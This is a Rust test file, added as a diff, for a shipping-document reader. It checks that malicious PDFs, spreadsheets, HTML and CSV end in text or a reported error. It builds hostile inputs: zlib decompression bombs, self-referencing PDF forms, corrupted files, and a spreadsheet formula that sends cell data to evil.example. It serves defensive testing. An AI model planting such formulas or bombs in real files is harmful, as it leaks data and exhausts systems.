@@ -1,0 +1,193 @@
+//! Documents that were made to do harm: each ends in text or in a problem that is told, and never in a panic, a hang or a heap of
+//! memory. The files are made here.
+
+use std::io::{Cursor, Write};
+use std::time::Duration;
+
+use flate2::Compression;
+use flate2::write::ZlibEncoder;
+use shiptrack::reading::find::findings;
+use shiptrack::reading::{Guard, Limits, Problem, Text, text_of};
+use shiptrack_tests::papers::pdf_of;
+
+fn limits() -> Limits {
+    Limits { pages: 10, cells: 10_000, text: 1 << 20, unpacked: 8 << 20, time: Duration::from_secs(20) }
+}
+
+fn read(name: &str, bytes: &[u8]) -> Result<Option<Text>, Problem> {
+    text_of(&Guard::default(), name, "", bytes, &limits())
+}
+
+fn deflated(bytes: &[u8]) -> Vec<u8> {
+    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
+    encoder.write_all(bytes).unwrap();
+    encoder.finish().unwrap()
+}
+
+/// A PDF of one page with this content stream, packed as `filter` says.
+fn pdf(filter: &str, content: &[u8]) -> Vec<u8> {
+    pdf_of(
+        &[format!("<< /Length {} {filter} >>\nstream\n", content.len()).as_bytes(), content, b"\nendstream"].concat(),
+        "",
+    )
+}
+
+const NOTICE: &[u8] = b"BT /F1 12 Tf 72 720 Td (ARRIVAL NOTICE) Tj 0 -20 Td (B/L No: MAEU123456789) Tj 0 -20 Td (Container MSKU0308961) Tj \
+    0 -20 Td (ETA: 14-MAY-2026) Tj ET";
+
+#[test]
+fn a_pdf_is_read_packed_or_not_and_each_finding_has_its_page_and_line() {
+    for file in [
+        pdf("", NOTICE),
+        pdf("/Filter /FlateDecode", &deflated(NOTICE)),
+        pdf("/Filter [/FlateDecode]", &deflated(NOTICE)),
+    ] {
+        let found = findings(&read("notice.pdf", &file).unwrap().unwrap());
+        let bills: Vec<_> = found.bills_of_lading.iter().map(|it| (it.value.as_str(), it.place.to_string())).collect();
+        assert_eq!(bills, [("MAEU123456789", "page 1, line 2".to_owned())]);
+        assert_eq!(found.containers[0].value, "MSKU0308961");
+        assert_eq!(found.eta.unwrap().value.to_string(), "2026-05-14");
+    }
+}
+
+#[test]
+fn a_pdf_that_unpacks_to_more_than_is_unpacked_is_told() {
+    let bomb = pdf("/Filter /FlateDecode", &deflated(&vec![b' '; 64 << 20]));
+    assert_eq!(read("a.pdf", &bomb), Err(Problem::Unpacks(8 << 20)));
+    let twice = pdf("/Filter [/FlateDecode /FlateDecode]", &deflated(&deflated(&vec![b' '; 64 << 20])));
+    assert_eq!(read("a.pdf", &twice), Err(Problem::Unpacks(8 << 20)));
+    for hidden in ["/F#69lter /FlateDecode", "/Filter 9 0 R", "/Filter /LZWDecode", "/Filter /FlateDecode"] {
+        let told = read("a.pdf", &pdf(hidden, b"no such thing"));
+        assert!(matches!(told, Err(Problem::Damaged("PDF", _))), "{hidden}: {told:?}");
+    }
+}
+
+#[test]
+fn a_pdf_that_is_damaged_anywhere_is_read_or_told() {
+    let whole = pdf("/Filter /FlateDecode", &deflated(NOTICE));
+    for length in (0..whole.len()).step_by(7) {
+        let _ = read("a.pdf", &whole[..length]);
+    }
+    for at in (0..whole.len()).step_by(5) {
+        let mut changed = whole.clone();
+        changed[at] ^= 0x55;
+        let _ = read("a.pdf", &changed);
+    }
+    let _ = read("a.pdf", &pdf("", &b"[".repeat(200_000)));
+    let _ = read("a.pdf", &pdf("", &b"q ".repeat(200_000)));
+    let _ = read("a.pdf", &pdf_of(&b"<<".repeat(100_000), ""));
+}
+
+#[test]
+fn a_pdf_that_draws_itself_again_and_again_comes_to_an_end() {
+    let content = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 11 >>\nstream\n\
+        /X Do /X Do\nendstream";
+    let limits = Limits { time: Duration::from_secs(2), ..limits() };
+    let told = text_of(&Guard::default(), "a.pdf", "", &pdf_of(content, "/XObject << /X 4 0 R >>"), &limits);
+    assert!(matches!(told, Ok(_) | Err(Problem::TooSlow(_) | Problem::Damaged(..))), "{told:?}");
+}
+
+/// A workbook whose sheet has these rows.
+fn workbook(rows: &str) -> Vec<u8> {
+    let mut file = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    let types = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#;
+    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
+    let book = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Notice" sheetId="1" r:id="r1"/></sheets></workbook>"#;
+    let book_rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
+    let sheet = format!(
+        r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#
+    );
+    for (name, text) in [
+        ("[Content_Types].xml", types),
+        ("_rels/.rels", rels),
+        ("xl/workbook.xml", book),
+        ("xl/_rels/workbook.xml.rels", book_rels),
+        ("xl/worksheets/sheet1.xml", &sheet),
+    ] {
+        file.start_file(name, options).unwrap();
+        file.write_all(text.as_bytes()).unwrap();
+    }
+    file.finish().unwrap().into_inner()
+}
+
+fn cell(place: &str, text: &str) -> String {
+    format!(r#"<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>"#)
+}
+
+#[test]
+fn a_workbook_is_read_and_its_formulas_are_not_computed() {
+    let rows = format!(
+        r#"<row r="1">{}{}</row><row r="2">{}{}</row><row r="3"><c r="A3"><f>HYPERLINK("http://evil.example/"&amp;A2)</f><v>7</v></c></row>"#,
+        cell("A1", "B/L No"),
+        cell("B1", "Container"),
+        cell("A2", "HLCU1234567890"),
+        cell("B2", "MSKU0308961"),
+    );
+    let text = read("a.xlsx", &workbook(&rows)).unwrap().unwrap();
+    assert!(text.lines.iter().flat_map(|line| &line.0).all(|cell| !cell.text.contains("evil")), "{text:?}");
+    let found = findings(&text);
+    assert_eq!(found.bills_of_lading[0].value, "HLCU1234567890");
+    assert_eq!(found.bills_of_lading[0].place.to_string(), "sheet \"Notice\", row 2, column 1");
+    assert_eq!(found.containers[0].value, "MSKU0308961");
+}
+
+#[test]
+fn a_workbook_that_unpacks_to_too_much_or_has_far_cells_costs_little() {
+    let many: String =
+        (1..=200_000).map(|row| format!(r#"<row r="{row}">{}</row>"#, cell(&format!("A{row}"), "x"))).collect();
+    assert_eq!(read("a.xlsx", &workbook(&many)), Err(Problem::Unpacks(8 << 20)));
+    let far =
+        format!(r#"<row r="1">{}</row><row r="1048576">{}</row>"#, cell("A1", "x"), cell("XFD1048576", "MSKU0308961"));
+    assert_eq!(findings(&read("a.xlsx", &workbook(&far)).unwrap().unwrap()).containers.len(), 1);
+    let some: String =
+        (1..=20_000).map(|row| format!(r#"<row r="{row}">{}</row>"#, cell(&format!("A{row}"), "x"))).collect();
+    assert!(read("a.xlsx", &workbook(&some)).unwrap().unwrap().is_cut);
+    let whole = workbook(&some);
+    for length in (0..whole.len()).step_by(whole.len() / 50) {
+        let told = read("a.xlsx", &whole[..length]);
+        assert!(!matches!(told, Ok(Some(_))), "{length}");
+    }
+}
+
+#[test]
+fn html_is_read_and_what_is_nested_without_end_is_told() {
+    let page = "<html><head><script>alert('TGHU1643396')</script></head><body><h1>Arrival notice</h1><table><tr><td>B/L No</td>\
+        <td>MAEU123456789</td></tr><tr><td>Container</td><td>MSKU0308961</td></tr></table></body></html>";
+    let found = findings(&read("a.html", page.as_bytes()).unwrap().unwrap());
+    let boxes: Vec<&str> = found.containers.iter().map(|it| it.value.as_str()).collect();
+    assert_eq!((boxes, found.bills_of_lading[0].value.as_str()), (vec!["MSKU0308961"], "MAEU123456789"));
+    for tag in ["<div>", "<table><tr><td>", "<b>", "<ul><li>"] {
+        let told = read("a.html", tag.repeat(100_000).as_bytes());
+        assert!(matches!(told, Err(Problem::Damaged("HTML", _))), "{tag}");
+    }
+    let _ = read("a.html", "<".repeat(1 << 20).as_bytes());
+    let _ = read("a.html", "&amp".repeat(1 << 18).as_bytes());
+}
+
+/// What is looked below of a thousand headings beside one another, and what lines without end take.
+#[test]
+fn text_that_was_made_to_be_looked_at_for_long_costs_little() {
+    let wide = format!("{}\n", "ETA\t".repeat(3_000)).repeat(60);
+    let deep = "B/L No\n".repeat(100_000);
+    for made in [wide, deep, "a\n".repeat(500_000), "ETA: 05/06/2026  ".repeat(30_000)] {
+        let text = read("a.txt", made.as_bytes()).unwrap().unwrap();
+        assert!(text.lines.iter().map(|line| line.0.len()).sum::<usize>() <= 10_000);
+        assert!(findings(&text).is_empty());
+    }
+}
+
+#[test]
+fn tables_as_text_are_read_in_every_encoding_and_with_every_separator() {
+    let table = "Container,Vessel\nMSKU0308961,MAERSK ESSEX\n";
+    let utf_16: Vec<u8> = table.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let marked: Vec<u8> = [&b"\xff\xfe"[..], &utf_16].concat();
+    let others = [";", "\t", "|"].map(|separator| table.replace(',', separator).into_bytes());
+    for bytes in [table.as_bytes().to_vec(), utf_16, marked].into_iter().chain(others) {
+        let found = findings(&read("a.csv", &bytes).unwrap().unwrap());
+        assert_eq!((found.containers.len(), found.vessel.map(|it| it.value)), (1, Some("MAERSK ESSEX".to_owned())));
+    }
+    let wide = read("a.csv", ",x".repeat(200_000).as_bytes()).unwrap().unwrap();
+    assert!(wide.is_cut);
+    let _ = read("a.csv", "\"".repeat(1 << 20).as_bytes());
+}
